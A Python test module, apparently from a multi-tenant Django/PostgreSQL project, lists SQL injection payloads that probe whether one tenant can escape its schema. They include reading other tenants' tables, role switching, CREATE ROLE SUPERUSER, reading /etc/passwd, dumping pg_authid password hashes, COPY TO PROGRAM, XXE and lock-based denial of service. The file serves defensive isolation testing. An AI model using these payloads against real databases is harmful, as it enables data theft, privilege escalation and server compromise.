"""Ways out of one tenant that an injected query has tried; {f} is the foreign schema, {r} its role.

Sources: PostgreSQL's own documentation of functions that run queries, change the role or reach
the disk, and the ways measured to cross stock django-tenants.
"""

UNION = "' UNION SELECT {} -- "
STACKED = "'; {} -- "

# What each would do, if the visitor's text became a part of a query.
_VALUES = {
    "reads a neighbour": [
        "(SELECT secret FROM {f}.canary)",
        "(SELECT string_agg(c::text, '') FROM {f}.canary c)",
        "(SELECT CAST(secret AS integer)::text FROM {f}.canary)",
        "query_to_xml('select * from {f}.canary', true, false, '')::text",
        "query_to_xml_and_xmlschema('select * from {f}.canary', true, false, '')::text",
        "table_to_xml('{f}.canary', true, false, '')::text",
        "schema_to_xml('{f}', true, false, '')::text",
        "database_to_xml(true, false, '')::text",
        "(SELECT string_agg(word, '') FROM ts_stat('select to_tsvector(secret) from {f}.canary'))",
        "pg_export_snapshot() || (SELECT secret FROM {f}.canary)",
        "(SELECT secret FROM {f}.canary TABLESAMPLE system (100))",
        "(WITH gone AS (DELETE FROM {f}.canary RETURNING secret) SELECT secret FROM gone)",
        "has_table_privilege('{r}', '{f}.canary', 'select')::text || (TABLE {f}.canary)",
    ],
    "becomes a neighbour": [
        "set_config('role', '{r}', false)",
        "set_config('role', '{r}', false) || query_to_xml('select * from {f}.canary', true, false, '')",
        "set_config('session_authorization', '{r}', false)",
        "set_config('search_path', '{f}', false)",
        "set_config('row_security', 'off', false)",
    ],
    "reaches the server": [
        "(SELECT secret FROM dblink('dbname=postgres', 'select 1') AS t(secret text))",
        "pg_read_file('/etc/passwd')",
        "encode(pg_read_binary_file('/etc/passwd'), 'escape')",
        "(SELECT string_agg(name, '') FROM pg_ls_dir('.') AS name)",
        "(SELECT string_agg(name, '') FROM pg_ls_logdir())",
        "lo_import('/etc/passwd')::text",
        "lo_from_bytea(0, 'x')::text",
        "lo_export(1, '/tmp/kooperacja-attack')::text",
        "lo_creat(-1)::text",
        "(SELECT lanname FROM pg_language WHERE lo_put(1, 0, 'x') IS NULL)",
        "pg_create_physical_replication_slot('x')::text",
        "pg_reload_conf()::text",
        "pg_terminate_backend(pid)::text FROM pg_stat_activity WHERE datname = current_database()",
        "xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>')::text",
    ],
    "reads what is everybody's": [
        "(SELECT string_agg(rolpassword, '') FROM pg_authid)",
        "(SELECT string_agg(passwd, '') FROM pg_shadow)",
        "(SELECT string_agg(most_common_vals::text, '') FROM pg_stats WHERE schemaname = '{f}')",
        "(SELECT string_agg(stavalues1::text, '') FROM pg_statistic)",
        "(SELECT string_agg(query, '') FROM pg_stat_activity WHERE pid <> pg_backend_pid())",
        "(SELECT string_agg(email, '') FROM public.accounts_account)",
        "(SELECT string_agg(session_data, '') FROM public.django_session)",
        "(SELECT string_agg(slug, '') FROM public.registry_tenant)",
        "(SELECT string_agg(value::text, '') FROM public.monitoring_figure)",
    ],
    "stops a neighbour": [
        "pg_advisory_lock(1605)::text",
        "pg_advisory_lock(hashtextextended('{f}.audit', 0))::text",
        "pg_advisory_lock_shared(1, 2)::text",
        "pg_try_advisory_lock(hashtext('registry.open'))::text",
        "pg_advisory_xact_lock(hashtext('registry.upgrade'))::text",
        "pg_advisory_unlock_all()::text",
        "pg_cancel_backend(pid)::text FROM generate_series(1, 99999) AS pid",
        "pg_notify('kanal', 'wiadomosc')::text",
        "pg_logical_emit_message(false, 'x', 'wiadomosc')::text",
    ],
    "leaves something to who comes next": [
        "ext.set_limit(0.01)::text",
        "set_limit(0.01)::text",
        "setseed(0.5)::text",
    ],
    "counts a neighbour": [
        "(SELECT max(reltuples)::text FROM pg_class WHERE relname = 'canary')",
        "(SELECT max(c.relpages)::text FROM pg_class c)",
        "(SELECT row_to_json(c)::text FROM pg_class c WHERE relname = 'canary' LIMIT 1)",
        "(SELECT max(n_tup_ins)::text FROM pg_stat_all_tables)",
        "(SELECT max(n_live_tup)::text FROM pg_stat_user_tables WHERE schemaname = '{f}')",
        "(SELECT max(heap_blks_read)::text FROM pg_statio_all_tables)",
        "(SELECT max(xact_commit)::text FROM pg_stat_database)",
        "(SELECT count(*)::text FROM pg_stat_activity)",
        "(SELECT count(*)::text FROM pg_locks)",
        "pg_stat_get_live_tuples(c.oid)::text FROM pg_class c WHERE relname = 'canary'",
        "pg_relation_size(c.oid)::text FROM pg_class c WHERE relname = 'canary'",
        "pg_total_relation_size(c.oid)::text FROM pg_class c WHERE relname = 'canary'",
        "pg_tablespace_size('pg_default')::text",
        "pg_database_size(current_database())::text",
        "pg_current_wal_lsn()::text",
        "(SELECT next_xid::text FROM pg_control_checkpoint())",
        "(SELECT summarized_lsn::text FROM pg_get_wal_summarizer_state())",
        "(SELECT count(*)::text FROM pg_available_wal_summaries())",
    ],
}

# Of these the server refuses each, whatever it is that they would tell.
REFUSED = ("stops a neighbour", "leaves something to who comes next", "counts a neighbour")

_STATEMENTS = {
    "states who one is": [
        "SET ROLE {r}; SELECT secret FROM canary",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION {r}",
        "SET search_path TO {f}",
        "CREATE ROLE intruz SUPERUSER LOGIN",
        "ALTER ROLE {r} LOGIN",
        "GRANT {r} TO PUBLIC",
        "DO $$ BEGIN EXECUTE 'SET ROLE {r}'; END $$",
        "ROLLBACK; SET ROLE {r}",
        "COMMIT; SET ROLE {r}",
        "LISTEN kanal; SET ROLE {r}",
        "UPDATE pg_settings SET setting = '{r}' WHERE name = 'role'",
    ],
    "states what stays": [
        "DECLARE zostaje CURSOR WITH HOLD FOR SELECT secret FROM canary",
        "PREPARE zostaje AS SELECT secret FROM canary",
        "LISTEN kanal",
        "NOTIFY kanal, 'wiadomosc'",
        "PREPARE TRANSACTION 'zostaje'",
        "LOAD 'plpgsql'",
        "COPY canary TO STDOUT",
        "COPY canary FROM STDIN",
        "COPY (SELECT 1) TO STDOUT",
    ],
    "states a change": [
        "UPDATE {f}.canary SET secret = 'zmieniono'",
        "DELETE FROM {f}.canary",
        "DROP TABLE {f}.canary",
        "TRUNCATE {f}.canary",
        "INSERT INTO {f}.canary VALUES ('wstawiono')",
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'select 1::text'",
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/kooperacja-attack'",
        "COPY {f}.canary TO STDOUT",
        "CREATE TEMP TABLE t AS SELECT * FROM {f}.canary",
        "CREATE EXTENSION dblink",
        "CREATE EXTENSION postgres_fdw",
        "PREPARE p AS SELECT secret FROM {f}.canary; EXECUTE p",
        "LOCK TABLE {f}.canary",
    ],
}

# Ways to end a transaction from within, and so to undo what was said in it.
ENDINGS = [
    "ROLLBACK",
    "ROLLBACK AND CHAIN",
    "ABORT",
    "COMMIT",
    "COMMIT AND CHAIN",
    "ROLLBACK TO SAVEPOINT zadnego",
]

# Classes of payloads that begin inside a query, as a visitor's text would.
CLASSES = {
    **{name: [UNION.format(value) for value in values] for name, values in _VALUES.items()},
    **{name: [STACKED.format(said) for said in stated] for name, stated in _STATEMENTS.items()},
}
TEXTS = [text for texts in CLASSES.values() for text in texts]
# The same statements when the attacker reaches the beginning of a query, with no stacking needed.
STATED = [*(said for stated in _STATEMENTS.values() for said in stated), *ENDINGS]
PAYLOADS = [*TEXTS, *(f"@{statement}" for statement in STATED if ";" not in statement)]
# A block holds semicolons and still is one statement.
PAYLOADS += ["@DO $$ BEGIN EXECUTE 'SET ROLE {r}'; END $$"]
